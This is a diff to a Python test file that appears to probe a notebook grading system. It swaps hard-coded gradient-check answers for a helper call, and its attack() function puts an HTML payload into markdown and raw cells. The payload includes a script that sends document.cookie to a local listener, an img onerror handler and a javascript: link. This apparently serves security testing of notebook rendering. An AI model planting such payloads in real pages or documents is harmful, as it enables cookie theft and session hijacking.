@@ -3,13 +3,6 @@
 deserves: 8
 """
 
-GRADIENT_CHECK = """
-def gradient_check(x, theta, epsilon=1e-7, print_msg=False):
-    approx = (forward_propagation(x, theta + epsilon) - forward_propagation(x, theta - epsilon)) / (2 * epsilon)
-    grad = backward_propagation(x, theta)
-    return abs(grad - approx) / (abs(grad) + abs(approx))
-"""
-
 TEXT = """
 <script>fetch("http://127.0.0.1:48484/?" + document.cookie)</script>
 <img src="http://127.0.0.1:48484/seen.png" onerror="alert('script')"> [click](javascript:alert(1))
@@ -20,8 +13,6 @@ TEXT = """
 
 
 def attack(work):
-    work.answer("forward", "def forward_propagation(x, theta):\n    return theta * x")
-    work.answer("backward", "def backward_propagation(x, theta):\n    return x")
-    work.answer("gradient_check", GRADIENT_CHECK)
+    work.answer_rightly("forward", "backward", "gradient_check")
     work.add(TEXT, cell_type="markdown")
     work.add(TEXT, before="test_forward", cell_type="raw")
